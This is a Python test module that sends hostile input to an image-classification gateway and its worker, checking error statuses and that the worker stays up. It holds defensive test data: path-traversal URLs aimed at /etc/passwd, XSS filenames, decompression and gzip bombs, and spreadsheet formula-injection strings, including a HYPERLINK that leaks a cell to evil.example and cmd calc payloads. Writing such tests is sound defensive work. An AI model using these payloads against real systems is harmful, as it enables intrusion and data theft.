"""Hostile input against a real gateway and a real worker (one pair for the whole module).

Each case has its expected status; none may be a 5xx, and the last test checks
that the worker process that started the module is still the one running.
Statuses, as docs/DESIGN.md says: 400 no/empty file or bad form, 413 over a size
limit, 415 not an accepted image type (judged by content), 422 cannot be
decoded, including images over MAX_PIXELS (a decompression bomb is refused from
its header: the same 422 whether the gateway or the worker sees it).
"""

from __future__ import annotations

import asyncio
import csv
import gzip
import hashlib
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from PIL import Image
from yarl import URL

from tests.security import images, multipart
from tests.security.conftest import MAX_PIXELS, MAX_UPLOAD_MB, Stack

ERROR_KEYS = {"success", "prediction", "score", "error"}
IMAGE_ID_RE = re.compile(r"[0-9a-f]{64}\.(jpg|png|gif|webp|bmp|tiff)")


@pytest.fixture(scope="module")
def baseline(stack: Stack) -> tuple[int, float]:
    """The worker's pid and start time before any hostile input."""
    return stack.worker.pid, stack.worker_start_time()


def form(data: bytes, filename: str = "photo.jpg", content_type: str = "image/jpeg", name: str = "file"):
    body = aiohttp.FormData()
    body.add_field(name, data, filename=filename, content_type=content_type)
    return body


async def post(stack: Stack, path: str = "/predict", **kwargs: Any) -> tuple[int, dict[str, Any], str]:
    async with aiohttp.ClientSession() as session:
        async with session.post(f"{stack.base_url}{path}", **kwargs) as response:
            text = await response.text()
            is_json = response.content_type == "application/json"
            body = await response.json(content_type=None) if is_json else {}
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            return response.status, body, text


async def expect_error(stack: Stack, status: int, says: str, path: str = "/predict", **kwargs: Any) -> dict:
    got, body, text = await post(stack, path, **kwargs)
    assert got == status, text
    assert set(body) == ERROR_KEYS and body["success"] is False, body
    assert says.lower() in body["error"].lower(), body["error"]
    return body


async def expect_label(stack: Stack, data: bytes, label: str, **form_args: str) -> dict:
    status, body, text = await post(stack, data=form(data, **form_args))
    assert status == 200, text
    assert body["prediction"] == label, body
    return body


# -- malformed uploads: 400 ---------------------------------------------------------


async def test_empty_body_is_400(stack: Stack, baseline) -> None:
    await expect_error(stack, 400, "no file")
    await expect_error(stack, 400, "no file", data=b"", headers={"Content-Type": "image/jpeg"})
    # A multipart body with no part at all, just the closing boundary.
    await expect_error(
        stack,
        400,
        "no file",
        data=b"--xyz--\r\n",
        headers={"Content-Type": "multipart/form-data; boundary=xyz"},
    )


async def test_a_multipart_body_cut_before_its_closing_boundary_is_400(stack: Stack, photos) -> None:
    """The body ends inside the file part: aiohttp's reader raises "Reading after EOF" (it was a 500)."""
    cut = b'--xyz\r\nContent-Disposition: form-data; name="file"; filename="p.jpg"\r\n\r\n'
    cut += photos["coffee"].read_bytes() + b"\r\n"
    await expect_error(
        stack,
        400,
        "malformed",
        data=cut,
        headers={"Content-Type": "multipart/form-data; boundary=xyz"},
    )


async def test_no_file_field_is_400(stack: Stack, photos) -> None:
    await expect_error(stack, 400, "no file", data=form(photos["coffee"].read_bytes(), name="image"))


async def test_two_files_are_400(stack: Stack, photos) -> None:
    body = form(photos["coffee"].read_bytes())
    body.add_field("file", photos["chelsea"].read_bytes(), filename="two.jpg", content_type="image/jpeg")
    await expect_error(stack, 400, "one file", data=body)


async def test_zero_byte_file_is_400(stack: Stack) -> None:
    await expect_error(stack, 400, "empty", data=form(b""))


# -- not an image: 415, judged by content -------------------------------------------


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("photo.jpg", b"\xff\xd8\xff" + b"\0" * 100)
    return buffer.getvalue()


FOREIGN = {
    "text": b"just some text, honestly a JPEG\n" * 10,
    "html": b"<!doctype html><html><body><script>alert(1)</script></body></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    "zip": _zip(),
}


@pytest.mark.parametrize("kind", sorted(FOREIGN))
async def test_foreign_content_is_415_whatever_its_name_or_type(stack: Stack, kind: str) -> None:
    data = FOREIGN[kind]
    await expect_error(stack, 415, "not an image", data=form(data, "cat.jpg", "image/jpeg"))
    await expect_error(stack, 415, "not an image", data=data, headers={"Content-Type": "image/png"})
    await expect_error(stack, 415, "not an image", data=form(data, f"x.{kind}", "application/octet-stream"))


# -- looks like an image, is not one: 422 -------------------------------------------


async def test_truncated_jpeg_is_422(stack: Stack, photos) -> None:
    data = photos["coffee"].read_bytes()[:20_000]
    await expect_error(stack, 422, "could not be decoded", data=form(data))


BOMBS = {
    "png-60000x60000": images.png_bomb,
    "gif-65535x65535": images.gif_bomb,
    "jpeg-60000x60000": images.jpeg_bomb,
    "bmp-60000x60000": images.bmp_bomb,
    "webp-16384x16384": images.webp_bomb,
}


@pytest.mark.parametrize("name", sorted(BOMBS))
async def test_decompression_bomb_is_422_refused_from_its_header(stack: Stack, name: str) -> None:
    """Refused by the gateway from the header: never stored, never sent to a worker."""
    data = BOMBS[name]()
    jobs_before = stack.worker_jobs()
    body = await expect_error(stack, 422, "over the limit", data=form(data, "bomb.img", "image/png"))
    assert f"{MAX_PIXELS:,}" in body["error"]
    assert stack.worker_jobs() == jobs_before
    assert not list(stack.upload_dir.glob(f"{hashlib.sha256(data).hexdigest()}.*"))


async def test_valid_images_over_the_pixel_limit_are_422(stack: Stack, photos) -> None:
    big = Image.open(photos["coffee"]).convert("RGB").resize((1000, 600))  # 600 000 > MAX_PIXELS
    # JPEG: the gateway reads the size from the header.
    await expect_error(stack, 422, "600,000 pixels", data=form(images.encode(big, "JPEG", quality=80)))
    # TIFF: the gateway does not parse it; the worker refuses it before decoding.
    jobs_before = stack.worker_jobs()
    tiff = images.encode(Image.new("RGB", big.size, (90, 60, 30)), "TIFF", compression="tiff_lzw")
    await expect_error(stack, 422, "over the limit", data=form(tiff, "big.tiff", "image/tiff"))
    assert stack.worker_jobs() == jobs_before + 1


# -- too big: 413 while streaming ---------------------------------------------------


async def test_upload_over_the_limit_is_413_while_streaming(stack: Stack) -> None:
    """A chunked multipart body (no Content-Length): the 413 comes once the limit is crossed."""
    limit = MAX_UPLOAD_MB * 1024 * 1024
    reader, writer = await asyncio.open_connection("127.0.0.1", stack.port)
    head = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff"
    )
    chunk = b"\0" * (64 * 1024)
    sent = 0
    answer = asyncio.create_task(reader.readline())
    try:
        writer.write(
            b"POST /predict HTTP/1.1\r\nHost: t\r\nContent-Type: multipart/form-data; boundary=b\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n" + b"%x\r\n%s\r\n" % (len(head), head)
        )
        while sent < 20 * limit and not answer.done():
            writer.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            await writer.drain()
            sent += len(chunk)
            await asyncio.sleep(0.002)
        status_line = await asyncio.wait_for(answer, 10)
    except (ConnectionResetError, BrokenPipeError):  # closed on us after the 413: read what came
        status_line = await asyncio.wait_for(answer, 10)
    finally:
        writer.close()
    assert status_line.startswith(b"HTTP/1.1 413"), status_line
    assert limit < sent < 3 * limit, f"sent {sent} bytes before the 413"


async def test_gzip_bomb_body_is_bounded(stack: Stack) -> None:
    """A compressed body is limited by what it expands to, never allocated whole."""
    bomb = gzip.compress(b"\xff\xd8\xff" + bytes(50 * 1024 * 1024), 9)  # 50 MB in ~50 KB
    status, body, text = await post(
        stack, data=bomb, headers={"Content-Type": "image/jpeg", "Content-Encoding": "gzip"}
    )
    print(f"[security] gzip bomb body: {status}")
    assert status in (413, 415), text  # 413 if the server expands it, 415 if it does not
    assert body["success"] is False


# -- valid, unusual images: 200 and the right answer --------------------------------


@pytest.fixture(scope="module")
def variants(photos) -> dict[str, bytes]:
    return images.coffee_variants(photos["coffee"])


@pytest.mark.parametrize(
    "name",
    [
        "cmyk-jpeg",
        "greyscale-jpeg",
        "16-bit-greyscale-png",
        "palette-png",
        "alpha-png",
        "animated-gif",
        "webp",
        "bmp",
    ],
)
async def test_unusual_but_valid_images_are_classified(stack: Stack, variants, name: str) -> None:
    body = await expect_label(
        stack, variants[name], "espresso", filename=f"coffee-{name}", content_type="image/x"
    )
    assert IMAGE_ID_RE.fullmatch(body["image"])


async def test_exif_orientation_is_applied(stack: Stack, photos) -> None:
    """Stored sideways with an orientation tag, the photo is classified upright."""
    upright_jpeg = images.encode(Image.open(photos["coffee"]), "JPEG", quality=90)
    upright = await expect_label(stack, upright_jpeg, "espresso")
    for orientation in (3, 6, 8):
        rotated = await expect_label(stack, images.exif_rotated(photos["coffee"], orientation), "espresso")
        assert abs(rotated["score"] - upright["score"]) < 0.03, (orientation, rotated, upright)
    # The control: the same sideways pixels without the tag are a much less sure answer.
    _, unrotated, _ = await post(stack, data=form(images.sideways(photos["coffee"])))
    assert unrotated["score"] < upright["score"] - 0.15, (unrotated, upright)


# -- names and ids: nothing escapes -------------------------------------------------


HOSTILE_NAMES = [
    "../../../../tmp/escaped.jpg",
    "..\\..\\escaped.jpg",
    "<script>alert(1)</script>.jpg",
    '"><img src=x onerror=alert(1)>.jpg',
    "/etc/passwd",
    "photo.jpg%00.html",
    "фото ☕ 写真.jpg",
]


async def test_hostile_filenames_are_ignored(stack: Stack, photos) -> None:
    data = photos["coffee"].read_bytes()
    image_id = f"{hashlib.sha256(data).hexdigest()}.jpg"
    for name in HOSTILE_NAMES:
        body, content_type = multipart.encode([multipart.Part("file", data, name, "text/html")])
        status, answer, text = await post(stack, data=body, headers={"Content-Type": content_type})
        assert status == 200 and answer["prediction"] == "espresso", text
        assert answer["image"] == image_id
        status, _, html = await post(stack, "/", data=body, headers={"Content-Type": content_type})
        assert status == 200 and "espresso" in html
        assert "<script" not in html and "onerror" not in html and "escaped" not in html
    # Every stored file is <sha256>.<ext>, inside the upload folder; nothing landed anywhere else.
    assert all(IMAGE_ID_RE.fullmatch(p.name) for p in stack.upload_dir.iterdir())
    expected = {"feedback", "gateway.log", "uploads", "worker.log"}
    assert {p.name for p in stack.upload_dir.parent.iterdir()} <= expected
    assert not Path("/tmp/escaped.jpg").exists()
    # A raw NUL in a part header is malformed HTTP: refused by the multipart parser.
    body, content_type = multipart.encode([multipart.Part("file", data, "photo.jpg\x00.html", "image/jpeg")])
    await expect_error(stack, 400, "malformed", data=body, headers={"Content-Type": content_type})


# -- feedback ---------------------------------------------------------------------


async def _coffee_id(stack: Stack, photos) -> str:
    return (await expect_label(stack, photos["coffee"].read_bytes(), "espresso"))["image"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def test_feedback_formula_cells_are_neutralised(stack: Stack, photos) -> None:
    image_id = await _coffee_id(stack, photos)
    for formula in FORMULAS:
        status, _body, text = await post(
            stack,
            "/feedback",
            json={"image": image_id, "prediction": formula, "score": 0.5, "correct_label": formula},
        )
        assert status == 200, text
    with open(stack.feedback_csv, newline="") as f:
        rows = list(csv.reader(f))
    written = rows[-len(FORMULAS) :]
    assert [(row[2], row[4]) for row in written] == [("'" + f, "'" + f) for f in FORMULAS]
    # No cell of the file starts a formula.
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows[1:] for cell in row)


async def test_feedback_huge_label_is_refused(stack: Stack, photos) -> None:
    image_id = await _coffee_id(stack, photos)
    huge = "x" * (1024 * 1024)
    report = {"image": image_id, "prediction": "espresso", "score": 0.5, "correct_label": huge}
    await expect_error(stack, 413, "too large", "/feedback", json=report)
    status, _, html = await post(stack, "/feedback", data={**report, "score": "0.5"})  # the page's form
    assert status == 413 and "too large" in html and huge not in html

    async def chunked():  # no Content-Length: aiohttp's own body limit (1 MB) applies
        yield b'{"image": "' + image_id.encode() + b'", "prediction": "x", "score": 0.5, "correct_label": "'
        for _ in range(20):
            yield b"y" * 65536
        yield b'"}'

    status, _, text = await post(
        stack, "/feedback", data=chunked(), headers={"Content-Type": "application/json"}
    )
    assert status == 413, text
    await expect_error(stack, 400, "longer than", "/feedback", json={**report, "correct_label": "x" * 300})


async def test_feedback_unknown_or_traversal_image_id(stack: Stack) -> None:
    report = {"prediction": "espresso", "score": 0.5}
    unknown = {**report, "image": f"{'ab' * 32}.jpg"}
    await expect_error(stack, 404, "no uploaded image", "/feedback", json=unknown)
    sha = "ab" * 32
    for image in (
        "../../etc/passwd",
        f"../{sha}.jpg",
        f"{sha}.jpg/../../x",
        "%2e%2e%2fetc%2fpasswd",
        f"{sha.upper()}.jpg",
        f"{sha}.html",
        f"{sha}.jpg\x00",
        "/etc/passwd",
    ):
        await expect_error(stack, 400, "not an image id", "/feedback", json={**report, "image": image})


# -- /uploads: only stored images, never anything else ------------------------------


TRAVERSALS = [
    "/uploads/../../etc/passwd",
    "/uploads/..%2F..%2Fetc%2Fpasswd",
    "/uploads/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/uploads/%2e%2e/%2e%2e/etc/passwd",
    "/uploads/%252e%252e%252fetc%252fpasswd",
    "/uploads/..%5c..%5cetc%5cpasswd",
    "/uploads/%2fetc%2fpasswd",
    "/uploads/..%00/etc/passwd",
    "/static/../../etc/passwd",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2f..%2fgateway%2f__init__.py",
    "/static/..%5c..%5cgateway%5c__init__.py",
    "//etc/passwd",
]


async def test_upload_paths_cannot_escape(stack: Stack, photos) -> None:
    stored = await _coffee_id(stack, photos)
    async with aiohttp.ClientSession() as session:
        for path in [*TRAVERSALS, f"/uploads/{stored}/../../../etc/passwd", f"/uploads/{stored.upper()}"]:
            # encoded=True: send the path exactly as written, not normalised by the client.
            async with session.get(URL(f"{stack.base_url}{path}", encoded=True)) as response:
                text = await response.text()
                assert response.status == 404, (path, response.status, text)
                assert "root:" not in text and "import" not in text
                assert response.headers["X-Content-Type-Options"] == "nosniff"
    # The same paths raw on a socket, as no client library would normalise them.
    for path in [*TRAVERSALS, "/uploads/..\\..\\etc\\passwd", "/static/..\\..\\etc\\passwd"]:
        reader, writer = await asyncio.open_connection("127.0.0.1", stack.port)
        writer.write(f"GET {path} HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n".encode())
        raw = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        assert raw.startswith(b"HTTP/1.1 404"), (path, raw[:200])
        assert b"root:" not in raw and b"nosniff" in raw


# -- afterwards ---------------------------------------------------------------------


def test_zz_the_worker_survived_everything(stack: Stack, baseline) -> None:
    """Runs last (file order): the worker that started the module is alive and never restarted."""
    pid, started_at = baseline
    stack.assert_unharmed(pid, started_at)
    print(f"\n[security] hostile input: worker pid {pid} alive, {stack.worker_jobs():.0f} jobs, no 5xx")
